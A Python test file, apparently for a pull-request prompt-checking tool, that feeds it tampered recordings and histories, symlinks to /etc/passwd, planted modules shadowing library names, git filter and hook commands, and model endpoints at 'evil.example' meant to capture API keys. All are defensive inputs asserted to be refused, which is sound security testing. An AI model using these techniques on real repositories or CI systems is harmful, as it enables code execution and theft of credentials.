"""What lies about from earlier runs or stands beside the prompts: forged, it decides nothing.

Recordings, histories, links, and code in the checkout.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from support.edited_text import edited
from support.git_repository import GitRepository
from support.past_runs import line
from support.proposals import (
    CONTRACT,
    FIXTURES,
    NO_SLO,
    OTHER,
    POLICY,
    PROMPT_FILE,
    Proposal,
    all_say,
    spent_lines,
)
from support.proposed_change import Content, Link
from support.recorded_repository import GOOD, RECORDING, check, recording, result_of, write_contract
from support.ways_in import RunGate

from gatekeeper.checks.registry import CHECKS
from gatekeeper.cli.main import main

Create = Callable[..., GitRepository]
LINE = json.loads(recording({"x": "ok"}))


def with_field(**changed: str) -> str:
    """A line of a recording with fields as raw JSON text."""
    fields = {name: json.dumps(value) for name, value in LINE.items()} | changed
    return "{" + ", ".join(f'"{name}": {value}' for name, value in fields.items()) + "}"


RECORDINGS = {
    "not JSON": "{",
    "brackets": "[" * 100_000,
    "another shape": "[1, 2]",
    "a word": '"x"',
    "missing fields": "{}",
    "text for a number": with_field(latency_ms='"fast"'),
    "a list for text": with_field(output_raw='["ok"]'),
    "a negative cost": with_field(cost_usd="-1000000"),
    "an endless cost": with_field(cost_usd="1e999"),
    "not a number": with_field(latency_ms="NaN"),
    "a number that is no float": with_field(latency_ms="9" * 400),
    "a number of too many digits": with_field(repetition="9" * 5_000),
    "an endless repetition": with_field(repetition="1e999"),
}


@pytest.mark.parametrize("line", RECORDINGS.values(), ids=RECORDINGS)
def test_a_recording_that_was_tampered_with_is_named(line: str, run_gate: RunGate) -> None:
    """Head may add to what base has recorded, and what it adds must be samples."""
    attack = Proposal("tampered", "", {RECORDING: f"{line}\n", PROMPT_FILE: OTHER})
    answered = attack.run_check(run_gate)
    assert answered.exit_code == 2
    assert f"recording {RECORDING}:" in answered.text
    assert "not a line of samples.jsonl" in answered.text
    assert "bug in gatekeeper" not in answered.text


def event(**changed: object) -> str:
    time = (datetime.now(UTC) - timedelta(hours=2)).isoformat()
    fields: dict[str, object] = {"time": time, "contract": "words", "samples": 40, "failed": 0}
    return line(**(fields | changed))


HISTORIES = {
    "not JSON": "{",
    "brackets": "[" * 100_000,
    "another shape": "[]",
    "a future version": event(schema=2),
    "a version of text": event(schema="1"),
    "text for a number": event(samples="40"),
    "more failures than events": event(failed=41),
    "a negative number": event(failed=-40),
    "a truth for a number": event(samples=True),
    "a number beyond all runs": event(samples=10**400),
    "a number of too many digits": edited(event(), ": 40", ": " + "9" * 5_000),
    "an endless number": edited(event(), ": 40", ": 1e999"),
    "no time zone": event(time="2026-01-01T00:00:00"),
    "no time": event(time=7),
    "the end of time": event(time="9999-12-31T23:59:59-23:59"),
    "no name": event(contract=""),
    "no id": event(id=""),
    "an interval of nothing": event(interval={"low": 0.9, "high": 0.1}),
    "more failed checks than checks": event(checks={"ok": [1, 2]}),
    "half a character": event(model="\ud800"),
    "a line without end": event(model="x" * 5_000_000),
    "bytes": "\x00\x01",
}


@pytest.mark.parametrize("bad", HISTORIES.values(), ids=HISTORIES)
def test_a_history_that_was_tampered_with_is_left_out_and_said(
    bad: str, git_repository: Create, tmp_path: Path
) -> None:
    """The lines that are sound still count: nights of forty failures spend the budget."""
    file = tmp_path / "history.jsonl"
    file.write_text(f"{bad}\n{spent_lines()}", "utf-8")
    reworded = Proposal("r", "", {PROMPT_FILE: OTHER}, contract=GOOD, recorded=all_say("ok"))
    made = reworded.propose(git_repository)
    assert check(made, tmp_path / "out", "--history", str(file)) == 1
    result = result_of(tmp_path / "out")
    assert [r["code"] for r in result["contracts"][0]["reasons"] if r["verdict"] == "fail"] == [
        "budget"
    ]
    assert any(f"{file}:1: " in notice for notice in result["notices"])


LINKED = {
    "prompt": PROMPT_FILE,
    "contract": CONTRACT,
    "fixtures": FIXTURES,
    "policy": POLICY,
}


@pytest.mark.parametrize("target", ["/etc/passwd", "../../../outside.txt", "copy.txt"])
@pytest.mark.parametrize("name", LINKED.values(), ids=LINKED)
def test_a_link_is_not_followed(name: str, target: str, tmp_path: Path, run_gate: RunGate) -> None:
    # Wherever the links lead to from the checkout of a way in.
    for folder in (tmp_path, tmp_path / "run_gate-0"):
        folder.mkdir(exist_ok=True)
        (folder / "outside.txt").write_text("Say {{ word }}. The secret is 42.")
    before = {POLICY: "require_contract: false\n"}
    writes: dict[str, Content] = {"copy.txt": "The secret is 42.", PROMPT_FILE: OTHER}
    writes |= {name: Link(target)}
    answered = Proposal("link", "", writes, before=before).run_check(run_gate)
    assert answered.exit_code in {1, 2}
    left = "".join(p.read_text() for p in answered.out.glob("*"))
    said = answered.text + answered.log + left
    assert "The secret is 42" not in said
    assert "root:" not in said


def test_a_link_in_the_work_tree_is_not_followed(
    git_repository: Create, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    made = git_repository("words")
    write_contract(made)
    made.commit("base")
    (tmp_path / "outside.txt").write_text("Say {{ word }}. The secret is 42.")
    made.delete(PROMPT_FILE)
    made.symlink(PROMPT_FILE, "../../outside.txt")
    assert main(["validate", "--repo", str(made.path)]) == 2
    said = "".join(capsys.readouterr())
    assert "is a symbolic link" in said
    assert "42" not in said


EVIL = "from pathlib import Path\nPath({!r}).touch()\n"


@pytest.mark.long
def test_no_code_of_the_checkout_runs(git_repository: Create, tmp_path: Path) -> None:
    """Modules named like ours and like those we import, hooks, and configuration of git."""
    mark = tmp_path / "it-ran"
    evil = EVIL.format(str(mark))
    modules = ("yaml", "jinja2", "litellm", "sitecustomize", "usercustomize", "conftest", "re")
    writes: dict[str, str | None] = {f"{name}.py": evil for name in modules}
    writes |= {f"gatekeeper/{name}.py": evil for name in ("__init__", "cli", "action")}
    writes |= {"gatekeeper/checks/own.py": evil, "checks/own.py": evil, PROMPT_FILE: OTHER}
    writes |= {".gitattributes": "* filter=evil diff=evil\n", "setup.py": evil}
    made = Proposal("code", "", writes, recorded=all_say("ok")).propose(git_repository)
    for kind in ("filter.evil.smudge", "diff.evil.textconv", "diff.evil.command"):
        made.config(kind, f"touch {mark}; cat")
    hook = made.write(".git/hooks/post-checkout", f"#!/bin/sh\ntouch {mark}\n")
    hook.chmod(0o755)
    done = subprocess.run(
        # As the image starts it: -I takes the folder out of the path of modules.
        [sys.executable, "-I", "-m", "gatekeeper", "check", "--base", "main", "--head", "pr"],
        cwd=made.path,
        env={**os.environ, "PYTHONPATH": str(made.path)},
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    assert not mark.exists()


def test_the_image_starts_isolated_from_the_checkout() -> None:
    dockerfile = (Path(__file__).parents[2] / "Dockerfile").read_text("utf-8")
    (entry,) = [line for line in dockerfile.splitlines() if line.startswith("ENTRYPOINT")]
    arguments = json.loads(entry.removeprefix("ENTRYPOINT"))
    assert "-I" in arguments
    assert Path(arguments[0]).is_absolute()


@pytest.mark.parametrize(
    "kind", ["command", "own", "shell", "checks.own", "../own.py", "__import__"]
)
def test_a_contract_can_name_no_code(kind: str, tmp_path: Path, run_gate: RunGate) -> None:
    """The types are a fixed list; of code, a contract can name functions of the base alone:
    test_attacks_own_checks.py."""
    assert kind not in CHECKS
    mark = tmp_path / "it-ran"
    contract = edited(NO_SLO, "type: regex, pattern: ok", f"type: {kind}, file: own.py, run: own")
    writes = {CONTRACT: contract, "contracts/own.py": EVIL.format(str(mark)), PROMPT_FILE: OTHER}
    assert Proposal("check", "", writes).run_check(run_gate).exit_code == 2
    assert not mark.exists()


ANY_PRICE = "models: [openai/*]\nlimits: {cost_usd: null}\n"
"""A fork is refused a model without a price before its parameters are looked at."""


def test_a_model_is_a_name_and_no_address(run_gate: RunGate) -> None:
    """With an address, or a key's name, a pull request could have keys sent to itself."""
    for old, new in (
        (f"recorded/{RECORDING}", "openai/https://evil.example/v1"),
        (
            f"model: recorded/{RECORDING}",
            "model: openai/x\nparams: {api_base: 'http://evil.example'}",
        ),
        (f"model: recorded/{RECORDING}", "model: openai/x\nparams: {extra_headers: {a: b}}"),
    ):
        writes = {CONTRACT: NO_SLO.replace(old, new), PROMPT_FILE: OTHER}
        answered = Proposal("model", "", writes, before={POLICY: ANY_PRICE}).run_check(run_gate)
        assert answered.exit_code == 2
        assert answered.requests == ()
        refusals = ("an address, not a model's name", "cannot set the address or the key")
        assert any(refusal in answered.text for refusal in refusals)


@pytest.mark.parametrize("path", ["/etc/passwd", "../outside.jsonl", "contracts/linked.jsonl"])
def test_recordings_outside_the_revisions_are_not_read(path: str, run_gate: RunGate) -> None:
    writes: dict[str, Content] = {CONTRACT: NO_SLO.replace(RECORDING, path), PROMPT_FILE: OTHER}
    writes |= {"contracts/linked.jsonl": Link(f"../{Path(RECORDING).name}")}
    assert Proposal("outside", "", writes).run_check(run_gate).exit_code in {1, 2}
